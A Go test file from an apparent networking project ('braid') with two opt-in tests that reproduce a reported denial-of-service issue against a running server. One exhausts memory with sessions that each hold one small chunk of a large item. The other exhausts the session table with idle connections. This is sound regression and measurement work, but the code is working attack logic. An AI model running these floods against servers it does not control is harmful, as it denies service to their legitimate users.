package session

import (
	"os"
	"strconv"
	"testing"
	"time"

	"github.com/braidnet/braid/internal/wire"
)

// TestAttackOneChunkPerSession reproduces, against a running server, the memory attack of
// issue 18: N sessions, each established with a PING and then sending only the last, 25-byte
// chunk of a 200-chunk item, held open while the server's RSS and virtual size are read from
// /proc. It runs only when BRAID_ATTACK_ADDR and BRAID_ATTACK_FINGERPRINT name the server (and
// BRAID_ATTACK_SESSIONS, default 1000, and BRAID_ATTACK_HOLD, default 10s, shape it).
func TestAttackOneChunkPerSession(t *testing.T) {
	addr, fp, n, hold := attackEnv(t, 1000)
	t.Setenv("BRAID_TEST_FINGERPRINT", fp)
	const chunk, total = 256 << 10, 200
	for i := range n {
		p := dialRawPinned(t, addr, fp)
		p.tcp.SetDeadline(time.Time{})
		p.send(wire.TypeSessionNew, wire.AppendSessionNew(nil, wire.SessionNew{Version: wire.ProtocolVersion, ChunkSize: chunk, Window: 1 << 20}))
		if f := p.recv(); f.Type != wire.TypeSessionAccept {
			t.Fatalf("session %d: answered %s", i, f.Type)
		}
		p.send(wire.TypePing, make([]byte, 8))
		p.readUntil(wire.TypePong, "the PONG")
		p.send(wire.TypeChunk, chunkFrame(0, total-1, total, 25))
	}
	t.Logf("%d sessions each holding one 25-byte chunk of a %d-chunk item; holding for %v", n, total, hold)
	time.Sleep(hold)
}

// TestAttackSessionSquat reproduces, against a running server, the session-table lockout of
// issue 18: BRAID_ATTACK_SESSIONS (default 1100) connections from one address each send
// SESSION_NEW and then nothing, held for BRAID_ATTACK_HOLD (default 10s). It reports how many
// the server accepted and refused; run a legitimate client meanwhile to time it. Same
// environment as TestAttackOneChunkPerSession.
func TestAttackSessionSquat(t *testing.T) {
	addr, fp, n, hold := attackEnv(t, 1100)
	accepted, refused := 0, 0
	for range n {
		p := dialRawPinned(t, addr, fp)
		p.tcp.SetDeadline(time.Now().Add(hold + 30*time.Second))
		p.send(wire.TypeSessionNew, wire.AppendSessionNew(nil, wire.SessionNew{Version: wire.ProtocolVersion, ChunkSize: 4096, Window: 1 << 20}))
		if f := p.recv(); f.Type == wire.TypeSessionAccept {
			accepted++
		} else {
			refused++
			p.conn.Close()
		}
	}
	t.Logf("%d SESSION_NEW: %d accepted, %d refused; holding for %v", n, accepted, refused, hold)
	time.Sleep(hold)
}

// attackEnv reads the attack tests' environment, skipping the test when no server is named.
func attackEnv(t *testing.T, defaultSessions int) (addr, fingerprint string, sessions int, hold time.Duration) {
	addr, fingerprint = os.Getenv("BRAID_ATTACK_ADDR"), os.Getenv("BRAID_ATTACK_FINGERPRINT")
	if addr == "" || fingerprint == "" {
		t.Skip("a measurement against a running server: set BRAID_ATTACK_ADDR and BRAID_ATTACK_FINGERPRINT")
	}
	if sessions, _ = strconv.Atoi(os.Getenv("BRAID_ATTACK_SESSIONS")); sessions <= 0 {
		sessions = defaultSessions
	}
	if hold, _ = time.ParseDuration(os.Getenv("BRAID_ATTACK_HOLD")); hold <= 0 {
		hold = 10 * time.Second
	}
	return addr, fingerprint, sessions, hold
}
